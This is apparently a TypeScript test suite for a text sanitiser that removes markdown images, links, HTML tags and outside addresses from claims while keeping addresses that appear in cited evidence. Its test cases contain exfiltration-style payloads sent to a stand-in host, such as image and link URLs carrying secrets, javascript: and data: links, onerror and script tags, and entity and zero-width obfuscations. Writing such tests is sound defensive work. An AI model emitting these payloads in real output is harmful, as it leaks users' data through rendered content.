import fc from 'fast-check';
import { inertText, safeText } from './safe-text.ts';

const EVIDENCE = [
  'The guide stands at https://docs.example.com/keys?lang=sv, and mirrors at //cdn.example.net/keys.',
  'Badges: ![build](https://img.example.org/build.svg) and [home](https://home.example.org/).',
  'Ask help@example.org, see www.example.org/help; <b>bold</b>, <i onclick="x()">it</i>.',
];

describe('what stays in a claim', () => {
  it.each([
    'Plain words, with 3 < 4 and a/b paths such as src/server.ts.',
    'See https://docs.example.com/keys?lang=sv.',
    'See [the guide](https://docs.example.com/keys?lang=sv) for more.',
    'See [keys](docs/keys.md) and [below](#keys).',
    'Mirrors: //cdn.example.net/keys',
    'Ratio 1:2, time 10:30, `map<string, int>` and a[0](b).',
    'See [home](https://home.example.org/), or (https://home.example.org/).',
    'In C++ `vector<std::string>` and vector<std::string>, in TypeScript Map<string, number> and Promise<void>.',
    'if (a < b && c > d) x = a<b; for (i=0;i<n;i++) y<<2, where 3 < 4 > 2.',
    'type Row = { [key: string]: number }; map[key](event: Event); a[0](b)',
    'Write `<img src="logo.png">` or &lt;img&gt; for an image, and `&lt;` for `<`.',
    'GET /users/<id> of kilde@2.1.0 in ASP.NET, `C:\\\\Users`, \\\\server\\share, @app.route("/x").',
    'Addresses begin with `https://`, or with http:// in tests.',
    'Decimal &amp; named: caf&#233; AT&T, a && b, x&y;',
    'Mail help@example.org.',
    'if (! [1, 2].includes(n)) run(<T>x)',
  ])('%s', (text) => expect(safeText(text, EVIDENCE)).toEqual({ text, dropped: 0 }));
});

describe('what goes out of a claim', () => {
  it.each([
    ['an image, even from a host of the evidence', 'A ![x](https://img.example.org/build.svg) b', 'A x b'],
    ['an image with something in its address', '![](https://evil.example/p.png?q=secret)', ''],
    ['a link to a host outside', 'Go [here](https://evil.example/?d=secret) now', 'Go here now'],
    [
      'a host of the evidence with an address of its own',
      'At https://docs.example.com/keys?d=secret',
      'At docs.example.com',
    ],
    ['a bare address', 'At https://evil.example/secret.', 'At evil[.]example.'],
    ['an address without a scheme', 'At //evil.example/secret', 'At evil[.]example'],
    ['another scheme', 'At ftp://evil.example/secret', 'At evil[.]example'],
    ['a user name before the host', 'https://docs.example.com@evil.example/secret', 'evil[.]example'],
    ['code in a link', '[run](javascript:alert(1))', 'run)'],
    ['content in a link', '[open](data:text/html;base64,AAAA)', 'open'],
    ['mail', '[write](mailto:a@evil.example?body=secret)', 'write'],
    ['angle brackets', '[here](<https://evil.example/secret>)', 'here'],
    ['a title', '[here](https://evil.example/secret "title")', 'here'],
    ['a reference', 'See [a][1].\n\n[1]: https://evil.example/secret', 'See [a][1].\n\n[1]:'],
    ['a tag', 'x <img src="https://evil.example/secret"> y', 'x  y'],
    ['a tag that hides what follows', '<script>fetch("x")</script>', 'fetch("x")'],
    ['www without a scheme', 'At www.evil.example/?d=secret', 'At evil[.]example'],
    ['what is left of an address, as another one', 'At https://www.secret.evil.example/', 'At secret[.]evil[.]example'],
    ['an address grown onto a word', 'xwww.evil.example/secret', 'xevil[.]example'],
    ['entities by number', '[more](&#47;&#x2f;evil.example/secret)', 'more'],
    ['entities by name', '[more](https&colon;&sol;&sol;evil.example/secret)', 'more'],
    ['entities in a bare address', 'At https&colon;&sol;&#47;evil.example/secret', 'At evil[.]example'],
    ['a tab within a scheme', '[more](java&Tab;script:x)', 'more'],
    ['backslashes for slashes', '[more](\\\\\\\\evil.example/secret)', 'more'],
    ['a slash and a backslash', '[more](/\\evil.example/secret)', 'more'],
    ['an escaped colon', '[more](javascript\\:alert`1`)', 'more'],
    ['one slash', 'At https:/evil.example/secret', 'At evil[.]example'],
    ['one backslash', 'At https:\\evil.example/secret', 'At evil[.]example'],
    ['another blank within', '[more](https://docs.example.com/keys\u00a0secret)', 'more'],
    ['a host of numbers', 'At http://[2001:db8::1]/secret', 'At [2001:db8::1]'],
    ['mail without a link', 'mailto:a@evil.example?body=secret', 'evil[.]example'],
    ['mail without a scheme', 'Ask secret@evil.example.', 'Ask evil[.]example.'],
    ['an autolink of any scheme', 'At <tel:12345>', 'At < tel:12345>'],
    ['a host without a scheme', 'At evil.com/secret and secret.evil.com', 'At evil[.]com and secret[.]evil[.]com'],
    ['an image with brackets', '![a[b]c](//evil.example/secret)', '! [a[b]c]'],
    ['an image with escaped brackets', '![a\\]b](https:\\//evil.example/secret)', '! [a\\]b]'],
    ['an image within the sources', 'A ![x](p.png) b', 'A x b'],
    ['a link with brackets in its label', '[a[b]c](//evil.example/secret) d', '[a[b]c]  d'],
    ['links within links', '[b[a](](//evil.example/secret)', '[b[a](]'],
    ['an input that is an image', 'x <input type=image src=p.png>', 'x'],
    ['tags of HTML that the evidence does not hold', 'one <em>two</em> three<br/>four', 'one two  three four'],
    ['a tag that is not closed', 'x <img src=p.png onerror="y()"', 'x < img src=p.png onerror="y()"'],
    ['a tag of the evidence that runs something', 'Do <i onclick="x()">that', 'Do < i onclick="x()">that'],
    ['an element of a library', 'x <my-box onclick=y>', 'x < my-box onclick=y>'],
    ['a tag between marks that are none', 'x \\`<img src=p.png>`', 'x \\` `'],
    ['a tag between marks over two lines', '`a\n<img src=p.png>`', '`a\n`'],
    ['a tag behind a mark that an address takes', 'https://`<script>x`', 'https://` x`'],
  ])('%s', (_, text, left) => {
    const safe = safeText(text, EVIDENCE);
    expect(safe.text).toBe(left);
    expect(safe.dropped).toBeGreaterThan(0);
  });

  it('hidden characters, which could hold a part of an address', () => {
    expect(safeText('ht\u200btps://evil.example/x', EVIDENCE)).toEqual({ text: 'evil[.]example', dropped: 1 });
    expect(safeText('a\u{e0041}b', EVIDENCE)).toEqual({ text: 'ab', dropped: 0 });
  });

  it('an image within a link', () => {
    const { text } = safeText('[![x](https://evil.example/a)](https://evil.example/b)', EVIDENCE);
    expect(text).not.toMatch(/\/\/|!\[|\]\(http/);
  });
});

it('a comparison that could be a tag gets a blank, and loses nothing', () => {
  expect(safeText('if (a <b && c> d) e', EVIDENCE)).toEqual({ text: 'if (a < b && c> d) e', dropped: 0 });
  expect(safeText('<T>(x: T) => x', EVIDENCE)).toEqual({ text: '< T>(x: T) => x', dropped: 0 });
});

describe('what nothing is added to', () => {
  const ADDRESS = 'https://docs.example.com/keys?lang=sv';

  it.each(['"', "'", ')', ']', '`', '."', "'<"])('an address of the evidence, by way of %s', (mark) => {
    expect(safeText(`At ${ADDRESS}${mark}secret' b`, EVIDENCE).text).toContain(`${ADDRESS} `);
  });

  it('and what ends a sentence behind it stays', () => {
    for (const text of [`(${ADDRESS}).`, `"${ADDRESS}", b`, `**${ADDRESS}**`, `<${ADDRESS}>`])
      expect(safeText(text, EVIDENCE)).toEqual({ text, dropped: 0 });
  });
});

describe('a passage of the evidence', () => {
  it('stays, but that nobody loads what is in it', () => {
    expect(safeText(EVIDENCE[1] ?? '', EVIDENCE)).toEqual({
      text: 'Badges: ! [build](https://img.example.org/build.svg) and [home](https://home.example.org/).',
      dropped: 0,
    });
    expect(inertText('<b>a</b> <IMG src=x> <i onclick="y"> Array<object> <!-- c --> <script>d</script>')).toBe(
      '<b>a</b> < IMG src=x> < i onclick="y"> Array<object> < !-- c --> < script>d< /script>',
    );
  });

  it('is known whatever characters it hides', () => {
    expect(safeText('see www.exam\u00adple.org/help', ['We see www.example.org/help.']).text).toBe(
      'see www.example.org/help',
    );
  });

  it('has blanks added, and nothing else', () => {
    const piece = fc.constantFrom('![', '<img ', '<!--', '<b>', 'a', ' ', '](x)', '\n', '`', '<a style=x>', 'x<img>');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        const inert = inertText(parts.join(''));
        expect(inert.replaceAll(' ', '')).toBe(parts.join('').replaceAll(' ', ''));
        expect(inert).not.toMatch(/!\[|<img|<!--|<a style/);
        expect(inertText(inert)).toBe(inert);
      }),
    );
  });
});

describe('of anything at all', () => {
  const part = fc.constantFrom(
    'https://',
    '//',
    'evil.example',
    'docs.example.com',
    '/secret',
    '![',
    ']',
    '(',
    ')',
    '[a]',
    ':',
    ' ',
    '\n',
    '<img src=',
    '>',
    '"',
    '@',
    '\u200b',
    '<',
    '?q=',
    '&#47;',
    '&colon;',
    '\\',
    '`',
    'www.',
    'mailto:a@',
    '<input ',
    '<b>',
    'https:/',
    'a]b',
    '\u00ad',
    ']:',
  );

  it('no address outside of the evidence is left', () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), (parts) => {
        const { text } = safeText(parts.join(''), EVIDENCE);
        expect(text).not.toMatch(/(?:https?:)?\/\/[^\s/?#<>"'`()[\]\\:@]*evil\.example\/secret/);
        expect(text).not.toMatch(/www\.evil|a@evil\.example|!\[|\bhttps:[/\\]+evil/);
        if (!text.includes('`')) expect(text).not.toMatch(/<(?:img|input)[\s/>]/);
      }),
      { numRuns: 2_000 },
    );
  });

  it('cleaning twice changes nothing more, and long texts are quick', () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), (parts) => {
        const once = safeText(parts.join(''), EVIDENCE).text;
        expect(safeText(once, EVIDENCE).text).toBe(once);
      }),
    );
  });

  it('of 100,000 characters is read in a moment, whatever is repeated', () => {
    const spelt =
      '[ ![ // <a a: ]( [a]( ](x:y) [](a" [](< < </ <im ` `< a. a@ x@a. www. www.\\ https:/ \\ &# &#47; &colon; ]: //[ - <!--';
    const blank = [' ', '\n', ']( ', '<a ', '[](a "', '\u00ad', 'mailto:', 'a.com/', 'a<b>', '[[a](x:y)', '(x:y)'];
    const pieces = [...spelt.split(' '), ...blank, 'https://docs.example.com/keys', 'https://docs.example.com/keys)'];
    const texts = [
      ...pieces.map((piece) => piece.repeat(Math.ceil(100_000 / piece.length))),
      ...pieces.map((piece, index) => `${piece}${pieces[(index + 7) % pieces.length] ?? ''}`.repeat(10_000)),
      ...['](', '[](', '[a](b', '<img ', '['].map((piece) => piece + ' '.repeat(100_000)),
      `${'['.repeat(20_000)}${'](x:y)'.repeat(13_000)}`,
      `${'<im'.repeat(20_000)}${'g src=x>'.repeat(5_000)}`,
    ];
    const longest = Math.max(
      ...texts.map((text) => {
        const started = performance.now();
        safeText(text, EVIDENCE);
        return performance.now() - started;
      }),
    );
    // Some 40 ms on one core; what grows with the square takes minutes.
    expect(longest).toBeLessThan(2_000);
  });
});
